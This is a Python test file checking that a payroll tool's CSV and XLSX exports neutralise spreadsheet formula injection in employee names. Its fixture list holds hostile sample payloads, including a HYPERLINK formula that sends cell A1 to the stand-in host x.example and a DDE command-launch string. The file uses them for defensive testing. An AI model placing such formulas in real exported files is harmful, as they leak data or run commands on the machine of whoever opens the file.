"""Payroll files carry names as text (issue 18, class 3).

CSV: RFC 4180 quoting for commas, quotes and line breaks; a text cell starting with a formula
character (`= + - @`, tab, CR) gets a `'` in front (OWASP CSV injection), unless `--format csv-raw`.
XLSX: text cells are always text cells (never formulas); a character XML cannot hold (NUL, most
C0 controls) is refused with `file:line`, exit 2, nothing written. Money stays a number in both.
"""

from __future__ import annotations

import csv
import io
import shutil
import string
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pmrules.cli import cli
from pmrules.payout import Period, compute_payouts
from pmrules.payout.formats import neutralise, to_csv, to_xlsx
from tests.test_fuzz import EXAMPLES

WORKSPACE = Path(__file__).resolve().parent / "workspaces" / "rounding-half-up"
HOSTILE = [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "Hale, Morgan", 'Morgan "Mo" Hale', "two\nlines", "cr\ronly", " =lead space",
    "Zoë Ünal", "'already quoted",
]


def _workspace(tmp_path: Path, names: list[str]) -> Path:
    ws = tmp_path / "ws"
    shutil.copytree(WORKSPACE, ws)
    rows = list(csv.reader((ws / "employees.csv").open(newline="")))
    for row, name in zip(rows[1:], names, strict=False):
        row[1] = name
    with (ws / "employees.csv").open("w", newline="") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows(rows)  # "\n" would leave a lone CR unquoted
    return ws


def _payout(ws: Path, fmt: str, out: Path) -> tuple[int, str]:
    result = CliRunner().invoke(cli, ["payout", str(ws), "--format", fmt, "--output", str(out)])
    return result.exit_code, result.output


def _csv_names(data: bytes) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    return [row["name"] for row in rows]


@pytest.mark.parametrize("chunk", range(0, len(HOSTILE), 6))
def test_csv_neutralises_formulas_and_quotes_what_needs_it(tmp_path: Path, chunk: int) -> None:
    written = HOSTILE[chunk:chunk + 6]
    ws = _workspace(tmp_path, written)
    names = [name.strip() for name in written]  # the reader trims cells, as it always did
    for fmt, expected in (("csv", [neutralise(n) for n in names]), ("csv-raw", names)):
        out = tmp_path / f"{fmt}.csv"
        code, output = _payout(ws, fmt, out)
        assert code == 0, output
        assert _csv_names(out.read_bytes())[:len(names)] == expected
    neutral = (tmp_path / "csv.csv").read_text()
    assert all(not line.startswith(("=", "+", "-", "@")) for cell in csv.reader(io.StringIO(neutral, newline=""))
               for line in cell[1:2])


def test_neutralise_touches_only_the_formula_characters() -> None:
    assert [neutralise(v) for v in ("=1", "+1", "-1", "@a", "\t1", "\r1", "a=1", "", " =1", "'=1")] == [
        "'=1", "'+1", "'-1", "'@a", "'\t1", "'\r1", "a=1", "", " =1", "'=1"]


def test_csv_money_stays_a_number_and_the_example_is_unchanged(tmp_path: Path) -> None:
    ws = _workspace(tmp_path, ["=1+1"])
    out = tmp_path / "out.csv"
    assert _payout(ws, "csv", out)[0] == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(), newline="")))
    plain = tmp_path / "plain.csv"
    assert _payout(WORKSPACE, "csv", plain)[0] == 0
    golden = list(csv.DictReader(io.StringIO(plain.read_text(), newline="")))
    assert rows[0]["name"] == "'=1+1" and rows[0]["bonus"] == golden[0]["bonus"] == "50.03"  # unquoted number
    assert [r["bonus"] for r in rows] == [r["bonus"] for r in golden]
    assert b"'" not in plain.read_bytes()  # nothing to neutralise in a plain workspace: bytes as before


def test_xlsx_text_is_never_a_formula(tmp_path: Path) -> None:
    names = [n for n in HOSTILE if "\r" not in n and "\t" not in n][:6]
    ws = _workspace(tmp_path, names)
    out = tmp_path / "out.xlsx"
    code, output = _payout(ws, "xlsx", out)
    assert code == 0, output
    sheet = openpyxl.load_workbook(out).worksheets[0]
    cells = list(sheet.iter_rows(min_row=2, values_only=False))
    assert [row[1].value for row in cells[:len(names)]] == names
    assert all(row[1].data_type == "s" for row in cells)
    assert all(isinstance(row[-2].value, (int, float)) or row[-2].value is None for row in cells)  # bonus
    assert b"<f>" not in _sheet_xml(out.read_bytes())


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\r", "\x1b", "\x1f"])
def test_xlsx_refuses_a_character_xml_cannot_hold(tmp_path: Path, char: str) -> None:
    ws = _workspace(tmp_path, ["fine", f"Mor{char}gan"])
    out = tmp_path / "out.xlsx"
    code, output = _payout(ws, "xlsx", out)
    assert code == 2, output
    assert f"employees.csv:3: name 'Mor\\x{ord(char):02x}gan' holds U+{ord(char):04X} " in output
    assert "which an Excel workbook cannot hold (remove the character from the input, or write --format csv" \
        in output
    assert not out.exists() and "Traceback" not in output
    csv_out = tmp_path / "out.csv"
    assert _payout(ws, "csv-raw", csv_out)[0] == 0
    assert _csv_names(csv_out.read_bytes())[1] == f"Mor{char}gan"


# -- fuzz: any legal value round-trips -------------------------------------------------------------
LEGAL_XML = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\x01\x02\x03\x04\x05\x06\x07"
                          "\x08\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f"
                          "\ufffe\uffff")
NAMES = st.lists(st.text(st.sampled_from(",\"'=+-@\t\r\n ;|" + string.ascii_letters) | LEGAL_XML, max_size=30),
                 min_size=6, max_size=6)


def _run(tmp_path: Path, names: list[str]):  # type: ignore[no-untyped-def]
    from pmrules.api import open_workspace

    ws = _workspace(tmp_path, names)
    opened = open_workspace(ws)
    ws_ = opened.workspace
    return compute_payouts(ws_, opened.catalog, Period.of(ws_.manifest), ws_.employees)


@settings(max_examples=EXAMPLES, deadline=None)
@given(names=NAMES)
@example(names=["Hale, Morgan", 'a "b"', "=1", "x\r\ny", "\r", ""])
def test_any_legal_name_round_trips_through_csv_and_xlsx(tmp_path_factory: pytest.TempPathFactory,
                                                           names: list[str]) -> None:
    stripped = [name.strip() for name in names]  # the reader trims cells, as it always did
    if any(not name for name in stripped) or any(name.startswith('"') for name in names):
        return
    run = _run(tmp_path_factory.mktemp("rt"), names)
    written = [employee.name for employee in run.table]
    assert _csv_names(to_csv(run, raw=True)) == written
    assert _csv_names(to_csv(run)) == [neutralise(name) for name in written]
    if any("\r" in name for name in written):
        return  # XLSX refuses a CR (XML reads it back as LF); test_xlsx_refuses_a_character_xml_cannot_hold
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(run, "USD")))
    assert [row[1] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)] == written
